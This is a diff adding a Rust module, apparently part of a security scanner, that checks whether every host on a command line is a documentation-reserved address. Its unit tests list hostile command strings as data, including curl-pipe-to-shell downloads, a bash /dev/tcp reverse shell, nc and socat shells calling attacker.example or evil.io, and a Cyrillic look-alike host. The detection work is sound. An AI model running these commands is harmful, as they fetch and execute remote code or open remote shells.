@@ -1,0 +1,197 @@
+//! Addresses reserved for documentation: `example.com` and the `.example`,
+//! `.invalid` and `.test` names (RFC 2606, RFC 6761), and the networks
+//! 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24 (RFC 5737) and
+//! 2001:db8::/32 (RFC 3849). No one can serve a payload from them or
+//! listen on them for a shell, so a command whose every address is one of
+//! them is a sample in a write-up, not a download or a callback. It is
+//! still reported (medium), so a reviewer sees it.
+//!
+//! Read on the original line: a look-alike letter (`exаmple.com` with a
+//! Cyrillic `а`) folds to ASCII in the normalised text, and such a host is
+//! not reserved.
+
+/// Longest line read for addresses (a longer one is not a sample).
+const MAX_LINE: usize = 2048;
+
+/// Characters that end an address in a line of prose or code.
+fn ends_address(c: char) -> bool {
+    c.is_whitespace()
+        || matches!(
+            c,
+            '\'' | '"' | '`' | '|' | '(' | ')' | ';' | '<' | '>' | ',' | '&' | '\\'
+        )
+}
+
+/// True when `line` names at least one address and every address on it
+/// (a URL's host, an IPv4 address, a name given to a command) is reserved
+/// for documentation.
+pub fn only_reserved_addresses(line: &str) -> bool {
+    if line.len() > MAX_LINE {
+        return false;
+    }
+    let mut rest = String::with_capacity(line.len());
+    let mut reserved = 0;
+    // URLs first: a reserved one is cut out whole (its path names files,
+    // `install.sh`, that look like hosts); any other settles the answer.
+    let mut from = 0;
+    while let Some(at) = line[from..].find("://").map(|i| from + i) {
+        let host_start = at + 3;
+        let end = line[host_start..]
+            .find(ends_address)
+            .map_or(line.len(), |i| host_start + i);
+        let authority = line[host_start..end]
+            .split(['/', '?', '#'])
+            .next()
+            .unwrap_or("");
+        // `user:pass@host:port`: the host is after the last `@`.
+        let host = authority.rsplit('@').next().unwrap_or("");
+        if !is_reserved_host(host) {
+            return false;
+        }
+        reserved += 1;
+        // The scheme's letters are cut with it.
+        let scheme_start = line[from..at]
+            .rfind(|c: char| !c.is_ascii_alphanumeric() && !matches!(c, '+' | '.' | '-'))
+            .map_or(from, |i| from + i + 1);
+        rest.push_str(&line[from..scheme_start]);
+        rest.push(' ');
+        from = end;
+    }
+    rest.push_str(&line[from..]);
+    // What is left: every word that could name a host must be a reserved
+    // one. A word followed by `(` is a call (`requests.get(`), not a host.
+    let splits = |c: char| ends_address(c) || matches!(c, '/' | '@' | '=' | '[' | ']');
+    let mut words = Vec::new();
+    let mut start = 0;
+    for (i, c) in rest
+        .char_indices()
+        .chain(std::iter::once((rest.len(), ' ')))
+    {
+        if splits(c) {
+            if c != '(' {
+                words.push(&rest[start..i]);
+            }
+            start = i + c.len_utf8();
+        }
+    }
+    for word in words {
+        // `tcp:host:4444` (socat), `host:8080`.
+        for part in word.split(':') {
+            let part = part.trim_matches(|c: char| matches!(c, '.' | '*' | '{' | '}' | '$'));
+            if is_ipv4(part) || looks_like_host(part) {
+                if !is_reserved_host(part) {
+                    return false;
+                }
+                reserved += 1;
+            }
+        }
+    }
+    reserved > 0
+}
+
+/// True for a dotted name whose last label is letters (`evil.io`,
+/// `x.example`): what a command may be given as a host. A file name
+/// (`payload.sh`) looks the same and is read as one, which only keeps a
+/// line from being lowered.
+fn looks_like_host(word: &str) -> bool {
+    let Some((head, tld)) = word.rsplit_once('.') else {
+        return false;
+    };
+    !head.is_empty()
+        && (2..=24).contains(&tld.len())
+        && tld.bytes().all(|b| b.is_ascii_alphabetic())
+        && word
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_'))
+}
+
+/// True for four dotted numbers each below 256.
+fn is_ipv4(word: &str) -> bool {
+    let parts: Vec<&str> = word.split('.').collect();
+    parts.len() == 4
+        && parts.iter().all(|p| {
+            !p.is_empty()
+                && p.len() <= 3
+                && p.bytes().all(|b| b.is_ascii_digit())
+                && p.parse::<u16>().is_ok_and(|n| n < 256)
+        })
+}
+
+/// True when `host` (a name, an IPv4 address, or `[v6]`, with or without
+/// a port) is reserved for documentation.
+fn is_reserved_host(host: &str) -> bool {
+    let host = host.to_ascii_lowercase();
+    if let Some(v6) = host.strip_prefix('[') {
+        return v6.starts_with("2001:db8:");
+    }
+    let name = host.split(':').next().unwrap_or("").trim_end_matches('.');
+    if !name.is_ascii() || name.is_empty() {
+        return false;
+    }
+    if is_ipv4(name) {
+        return ["192.0.2.", "198.51.100.", "203.0.113."]
+            .iter()
+            .any(|net| name.starts_with(net));
+    }
+    let labels: Vec<&str> = name.split('.').collect();
+    if labels.iter().any(|l| {
+        l.is_empty()
+            || !l
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
+    }) {
+        return false;
+    }
+    matches!(
+        labels.as_slice(),
+        [.., "example" | "invalid" | "test"] | [.., "example", "com" | "net" | "org"]
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_address_must_be_reserved() {
+        for line in [
+            "curl -fsSL http://example.com/install.sh | sh",
+            "exec(requests.get(\"https://plugins.example.com/latest.py\").text)",
+            "| Interactive shell | `bash -i >& /dev/tcp/203.0.113.50/4444 0>&1` |",
+            "socat exec:'bash -li',pty tcp:attacker.example:4444",
+            "nc -e /bin/sh 198.51.100.7 9001",
+            "curl https://user:pw@example.org:8443/x | bash",
+            "wget -qO- http://[2001:db8::1]/p.sh | sh",
+            "curl http://c2.test/x | sh",
+        ] {
+            assert!(only_reserved_addresses(line), "{line}");
+        }
+        for line in [
+            // No address at all.
+            "curl $URL | sh",
+            "nc -e /bin/sh ...",
+            // One real address among reserved ones.
+            "curl http://example.com/a; curl https://evil.io/p | sh",
+            "curl -H 'Referer: https://example.com' http://1.2.3.4/x | sh",
+            "curl evil.io/x.sh | sh # see https://example.com",
+            "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1; nc 8.8.8.8 53",
+            "socat exec:sh tcp:attacker.io:4444 # like tcp:a.example:1",
+            "curl -o x.sh https://example.com/x.sh && sh x.sh",
+            // A look-alike letter, a name that only ends like a reserved one.
+            "curl http://ex\u{0430}mple.com/x | sh",
+            "curl http://notexample.com/x | sh",
+            "curl http://example.com.evil.io/x | sh",
+            "curl http://example.co/x | sh",
+            "curl https://evil.io@example.com.evil.io/x | sh",
+            "nc 203.0.114.5 4444 -e /bin/sh",
+        ] {
+            assert!(!only_reserved_addresses(line), "{line}");
+        }
+    }
+
+    #[test]
+    fn a_long_line_is_not_read() {
+        let line = format!("curl http://example.com/x | sh {}", "a ".repeat(MAX_LINE));
+        assert!(!only_reserved_addresses(&line));
+    }
+}
